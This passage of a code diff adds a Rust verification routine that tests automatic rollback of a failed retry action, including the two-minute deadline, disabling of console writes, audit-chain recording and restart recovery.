+            ("proposals.json", serde_json::to_vec_pretty(&proposals)?),
+            ("pages.json", serde_json::to_vec_pretty(&pages)?),
+        ],
+    })
+}
+
+// ---------------------------------------------------------------------------
+// Rollback (MC-SRE-1161)
+
+async fn rollback(c: &mut Checks) -> anyhow::Result<Evidence> {
+    let rig = ActionRig::new().await?;
+    let exec = rig.failed_execution("exec_bad_retry").await?;
+    let watch = Arc::new(mc_actions::RollbackWatch::new(
+        Arc::new(rig.store.clone()),
+        Arc::new(rig.flags.clone()),
+        Arc::new(rig.store.clone()),
+        Arc::new(rig.clock.clone()),
+        RollbackPolicy::default(),
+    ));
+    let service = ActionService::new(
+        Arc::new(rig.store.clone()),
+        Arc::new(rig.flags.clone()),
+        rig.hmac.clone(),
+        Arc::new(rig.clock.clone()),
+    )
+    .with_observer(watch.clone());
+    let accepted = service.perform(rig.retry(&exec, "bad-1")?).await;
+    c.check(
+        "the retry is accepted and watched",
+        accepted.is_ok() && watch.watching() == 1,
+        format!("{accepted:?}; watching {}", watch.watching()),
+    );
+    // The retried attempt runs and fails again: a bad retry. Checks run every 30 s.
+    rig.clock.advance(time::Duration::seconds(20));
+    rig.host(&exec, ExecutionState::Running).await?;
+    rig.clock.advance(time::Duration::seconds(25));
+    rig.host(&exec, ExecutionState::Failed).await?;
+    rig.clock.advance(time::Duration::seconds(30));
+    let rollbacks = watch.check().await?;
+    let r = rollbacks.first();
+    c.check(
+        "rolled back within 2 minutes",
+        r.is_some_and(|r| r.within_deadline && r.seconds_to_rollback <= 120),
+        match r {
+            Some(r) => format!(
+                "{} s from the failure to the rollback",
+                r.seconds_to_rollback
+            ),
+            None => "no rollback".into(),
+        },
+    );
+    let enabled = rig
+        .flags
+        .is_enabled(&rig.tenant, Flag::ConsoleActionsEnabled)
+        .await?;
+    let again = service.perform(rig.retry(&exec, "bad-2")?).await;
+    c.check(
+        "console writes are off for the tenant",
+        !enabled && matches!(again, Err(ActionError::FlagDisabled { .. })),
+        format!("console_actions_enabled = {enabled}; a further retry: {again:?}"),
+    );
+    let events = rig.store.read(&rig.tenant, 0, 100).await?;
+    let kinds: Vec<&str> = events.iter().map(|e| e.kind.as_str()).collect();
+    c.check(
+        "evidence recorded in the audit chain",
+        kinds == [mc_core::audit::EXEC_ACTION, mc_actions::ROLLBACK_EVENT]
+            && verify_chain(&events).is_ok(),
+        format!(
+            "events {kinds:?}, chain verifies: {}",
+            verify_chain(&events).is_ok()
+        ),
+    );
+    // A restarted process does not roll back twice for the same failure.
+    let restarted = mc_actions::RollbackWatch::new(
+        Arc::new(rig.store.clone()),
+        Arc::new(rig.flags.clone()),
+        Arc::new(rig.store.clone()),
+        Arc::new(rig.clock.clone()),
+        RollbackPolicy::default(),
+    );
+    let recovered = restarted.recover(std::slice::from_ref(&rig.tenant)).await?;
+    c.check(
+        "a restart recovers nothing the rollback already handled",
+        recovered == 0,
+        format!("{recovered} watches recovered"),
+    );
+    Ok(Evidence {
+        audit: events,
+        files: Vec::new(),
+    })
+}
